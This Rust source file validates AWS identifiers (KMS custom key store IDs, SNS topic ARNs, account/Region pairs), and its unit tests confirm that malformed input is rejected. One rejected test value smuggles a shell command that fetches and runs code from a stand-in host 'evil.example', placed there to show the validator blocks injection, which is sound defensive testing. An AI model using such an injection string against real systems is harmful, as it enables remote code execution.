//! Types for AWS's identifiers. A value of such a type has been validated.

use std::{fmt, str::FromStr};

use serde::Serialize;

use crate::text;

/// The ID of a custom key store, such as `cks-1234567890abcdef0`: `cks-` and 1 to 60 letters or
/// digits.
///
/// KMS's own model asks for 1 to 64 characters and gives no pattern
/// (<https://docs.aws.amazon.com/kms/latest/APIReference/API_DisconnectCustomKeyStore.html>); all
/// of AWS's examples have this form. Nothing in such an ID means anything to a shell, so the
/// commands in a notice are safe to paste.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(transparent)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(extend("pattern" = "^cks-[0-9A-Za-z]{1,60}$")))]
pub struct KeyStoreId(String);

impl KeyStoreId {
    /// The ID as AWS spells it.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl FromStr for KeyStoreId {
    type Err = InvalidId;

    fn from_str(text: &str) -> Result<Self, InvalidId> {
        let Some(unique) = text.strip_prefix("cks-") else {
            return Err(if text.is_empty() {
                InvalidId::Empty
            } else {
                InvalidId::Form
            });
        };
        match text.chars().count() {
            count if count > 64 => Err(InvalidId::TooLong(count)),
            _ if unique.is_empty() || !unique.chars().all(|c| c.is_ascii_alphanumeric()) => Err(InvalidId::Form),
            _ => Ok(Self(text.to_owned())),
        }
    }
}

impl fmt::Display for KeyStoreId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Why a text is not a custom key store ID.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum InvalidId {
    /// No characters.
    #[error("is empty")]
    Empty,
    /// More than 64 characters.
    #[error("has {0} characters, and at most 64 are allowed")]
    TooLong(usize),
    /// Another form: a name, an ARN, a list, something in quotes.
    #[error("is not an ID, which is cks- and 1 to 60 letters or digits")]
    Form,
}

/// The ARN of the SNS topic of the notices, standard or FIFO, in any Region.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TopicArn {
    arn: String,
    region: String,
}

impl TopicArn {
    /// The ARN as AWS spells it.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.arn
    }

    /// The topic's Region. SNS takes a `Publish` only in the topic's own Region.
    #[must_use]
    pub fn region(&self) -> &str {
        &self.region
    }

    /// True if the topic is FIFO, and so needs a group and a deduplication ID.
    #[must_use]
    pub fn is_fifo(&self) -> bool {
        self.arn.strip_suffix(".fifo").is_some()
    }
}

impl FromStr for TopicArn {
    type Err = InvalidTopicArn;

    fn from_str(text: &str) -> Result<Self, InvalidTopicArn> {
        match text.split(':').collect::<Vec<_>>().as_slice() {
            ["arn", partition, "sns", region, account, topic]
                if partition.starts_with("aws")
                    && !region.is_empty()
                    && is_account(account)
                    && is_topic_name(topic) =>
            {
                Ok(Self {
                    arn: text.to_owned(),
                    region: (*region).to_owned(),
                })
            }
            _ => Err(InvalidTopicArn),
        }
    }
}

impl fmt::Display for TopicArn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.arn)
    }
}

/// A text that is not the ARN of an SNS topic.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
#[error("is not the ARN of an SNS topic")]
pub struct InvalidTopicArn;

/// The account and Region that a function, an event or an alarm belongs to.
///
/// Either is absent if the source does not contain it. Absent values are not compared.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AccountRegion {
    /// The twelve digits of the account.
    pub account: Option<String>,
    /// The Region's code, such as `us-east-1`.
    pub region: Option<String>,
}

impl AccountRegion {
    /// Reads the account and Region from any ARN. Empty fields of the ARN are absent.
    #[must_use]
    pub fn of_arn(arn: &str) -> Self {
        let mut fields = arn
            .split(':')
            .map(|field| (!field.is_empty()).then(|| field.to_owned()));
        if fields.next().flatten().as_deref() != Some("arn") {
            return Self::default();
        }
        let region = fields.nth(2).flatten();
        let account = fields.next().flatten();
        Self { account, region }
    }

    /// Says which part of `other` differs. Absent values are not compared.
    #[must_use]
    pub fn differs_from(&self, other: &Self) -> Option<String> {
        let differing = |what, own: &Option<String>, other: &Option<String>| match (own, other) {
            (Some(own), Some(other)) if own != other => {
                let other = text::quote(other);
                Some(format!(
                    "the event is from {what} {other}, and this function is in {what} {own}"
                ))
            }
            _ => None,
        };
        differing("account", &self.account, &other.account).or_else(|| differing("Region", &self.region, &other.region))
    }
}

fn is_account(text: &str) -> bool {
    text.len() == 12 && text.bytes().all(|b| b.is_ascii_digit())
}

/// 1 to 256 of `A-Z a-z 0-9 - _`, and `.fifo` at the end of a FIFO topic's name
/// (<https://docs.aws.amazon.com/sns/latest/api/API_CreateTopic.html>).
fn is_topic_name(text: &str) -> bool {
    let stem = text.strip_suffix(".fifo").unwrap_or(text);
    (1..=256).contains(&text.len())
        && !stem.is_empty()
        && stem
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn key_store_id_is_cks_and_letters_or_digits() {
        for good in ["cks-1234567890abcdef0", "cks-x", &format!("cks-{}", "a".repeat(60))] {
            assert_eq!(good.parse::<KeyStoreId>().unwrap().as_str(), good);
        }
        for (bad, why) in [
            (String::new(), InvalidId::Empty),
            (format!("cks-{}", "a".repeat(61)), InvalidId::TooLong(65)),
            ("cks-".into(), InvalidId::Form),
            ("payments-hsm".into(), InvalidId::Form),
            ("CKS-1".into(), InvalidId::Form),
            ("\"cks-1\"".into(), InvalidId::Form),
            ("cks-1;cks-2".into(), InvalidId::Form),
            ("cks-1;curl${IFS}evil.example|sh".into(), InvalidId::Form),
            ("cks-1\n".into(), InvalidId::Form),
            ("cks-é".into(), InvalidId::Form),
            (" cks-1".into(), InvalidId::Form),
        ] {
            assert_eq!(bad.parse::<KeyStoreId>(), Err(why), "{bad:?}");
        }
    }

    #[test]
    fn a_topic_arn_gives_its_region_and_kind() {
        let standard: TopicArn = "arn:aws:sns:eu-west-1:123456789012:notices".parse().unwrap();
        assert_eq!((standard.region(), standard.is_fifo()), ("eu-west-1", false));
        let fifo: TopicArn = "arn:aws-us-gov:sns:us-gov-west-1:123456789012:notices.fifo"
            .parse()
            .unwrap();
        assert_eq!((fifo.region(), fifo.is_fifo()), ("us-gov-west-1", true));
    }

    #[test]
    fn text_that_is_not_a_topic_arn_is_refused() {
        for bad in [
            "",
            "notices",
            "arn:aws:sqs:us-east-1:123456789012:notices",
            "arn:aws:sns::123456789012:notices",
            "arn:aws:sns:us-east-1:12345678901:notices",
            "arn:aws:sns:us-east-1:123456789012:",
            "arn:aws:sns:us-east-1:123456789012:.fifo",
            "arn:aws:sns:us-east-1:123456789012:no tices",
            "arn:aws:sns:us-east-1:123456789012:notices:5be8ee1b-1dcf-4b4e-9b7e-000000000000",
        ] {
            assert_eq!(bad.parse::<TopicArn>(), Err(InvalidTopicArn), "{bad:?}");
        }
    }

    #[test]
    fn account_and_region_are_read_from_any_arn() {
        let alarm = AccountRegion::of_arn("arn:aws:cloudwatch:us-east-1:123456789012:alarm:A:B");
        assert_eq!(alarm.region.as_deref(), Some("us-east-1"));
        assert_eq!(alarm.account.as_deref(), Some("123456789012"));
        assert_eq!(AccountRegion::of_arn("arn:aws:s3:::bucket"), AccountRegion::default());
        assert_eq!(AccountRegion::of_arn("EXAMPLE"), AccountRegion::default());
        assert_eq!(AccountRegion::of_arn(""), AccountRegion::default());
    }

    #[test]
    fn places_differ_only_in_what_both_of_them_say() {
        let place = |account: &str, region: &str| {
            let said = |text: &str| (!text.is_empty()).then(|| text.to_owned());
            AccountRegion {
                account: said(account),
                region: said(region),
            }
        };
        let own = place("111122223333", "us-east-1");
        for same in [
            own.clone(),
            place("", "us-east-1"),
            place("111122223333", ""),
            place("", ""),
        ] {
            assert_eq!(own.differs_from(&same), None);
        }
        let account = own.differs_from(&place("444455556666", "us-east-1")).unwrap();
        assert!(account.contains("account \"444455556666\""), "{account}");
        let region = own.differs_from(&place("", "eu-west-1")).unwrap();
        assert!(region.contains("Region \"eu-west-1\""), "{region}");
        assert_eq!(place("", "").differs_from(&own), None);
    }
}
